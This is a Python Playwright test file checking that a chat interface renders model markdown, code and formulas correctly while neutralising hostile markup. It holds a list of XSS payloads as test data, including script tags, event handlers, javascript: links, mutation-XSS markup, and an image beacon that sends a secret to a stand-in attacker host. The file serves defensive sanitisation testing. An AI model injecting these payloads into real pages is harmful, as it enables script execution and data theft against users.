"""What a model writes is shown well, and never trusted."""

from __future__ import annotations

import pytest
from playwright.sync_api import Browser, expect

from tests.browser.conftest import Opener, serving
from tests.browser.speaking import SpeakingModel, answers, say, wait_for_answer

RICH = """# Title

A list:

- **bold** and `code`
- [a link](https://example.com/x)

| metal | melts |
|---|--:|
| iron | 1538 |

```python
def add(a, b):
    return a + b  # sum
```

Inline $a^2 + b^2$ costs $5 or $6, and

$$\\frac{1}{2}$$
"""

HOSTILE = """<script>window.hit = 1</script>

<img src=x onerror="window.hit = 1"> <svg onload="window.hit=1"></svg>

<iframe src="https://evil.example/"></iframe><style>body{display:none}</style>

![picture](https://evil.example/spy.png?q=secret)

[press](javascript:window.hit=1) [data](data:text/html,<script>window.hit=1</script>) <a href="vbscript:x">v</a>

<a href="https://evil.example" onclick="window.hit=1" style="position:fixed;inset:0">big</a>

<form action="https://evil.example"><input name=q><button>go</button></form>

$$\\href{javascript:window.hit=1}{x}$$ $\\includegraphics{https://evil.example/a.png}$

```html"><img src=x onerror=window.hit=1>
<script>window.hit = 1</script>
```

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">
"""


def test_markdown_code_tables_and_formulas_are_set(open_page: Opener) -> None:
    with serving(SpeakingModel(says=RICH)) as server:
        page = open_page(server.url, permissions=["clipboard-read", "clipboard-write"])
        say(page, "Show me")
        answer = wait_for_answer(page)
        expect(answer.get_by_role("heading", name="Title")).to_be_visible()
        expect(answer.locator("td").last).to_have_text("1538")
        expect(answer.locator(".hljs-keyword").first).to_have_text("def")
        expect(answer.locator("math mfrac")).to_have_count(1)
        expect(answer.locator("math")).to_have_count(2)
        expect(answer).to_contain_text("costs $5 or $6")
        answer.get_by_role("button", name="Copy code").click()
        expect(answer.get_by_role("button", name="Copied")).to_be_visible()
        assert page.evaluate("() => navigator.clipboard.readText()").startswith("def add(a, b):")


def test_hostile_text_runs_nothing_fetches_nothing_and_hides_nothing(open_page: Opener) -> None:
    with serving(SpeakingModel(says=HOSTILE)) as server:
        page = open_page(server.url)
        say(page, HOSTILE[:200])
        answer = wait_for_answer(page)
        page.wait_for_timeout(500)
        assert page.evaluate("() => window.hit") is None
        found = answer.locator(".markdown").evaluate(
            "node => [...node.querySelectorAll('*')].flatMap(one => [one.localName, ...[...one.attributes].map(a => a.name)])"
        )
        assert not {"script", "img", "iframe", "style", "svg", "form", "input"} & set(found) - {"style"}
        assert not [name for name in found if name.startswith("on")]
        links = answer.locator(".markdown a").evaluate_all("all => all.map(one => one.getAttribute('href'))")
        assert [link for link in links if link and not link.startswith("https://evil.example")] == []
        expect(answers(page)).to_contain_text("<script>window.hit = 1</script>")
        expect(page.get_by_label("Message", exact=True)).to_be_visible()


@pytest.mark.parametrize("script", ["<img src=x onerror=1>", "<script>1</script>"])
def test_the_policy_holds_even_if_cleaning_were_forgotten(script: str, browser: Browser) -> None:
    with serving(SpeakingModel()) as server, browser.new_context() as context:
        page = context.new_page()
        page.goto(server.url)
        refused = page.evaluate(
            "html => { try { document.body.innerHTML = html; return '' } catch (error) { return error.name } }", script
        )
        assert refused == "TypeError"
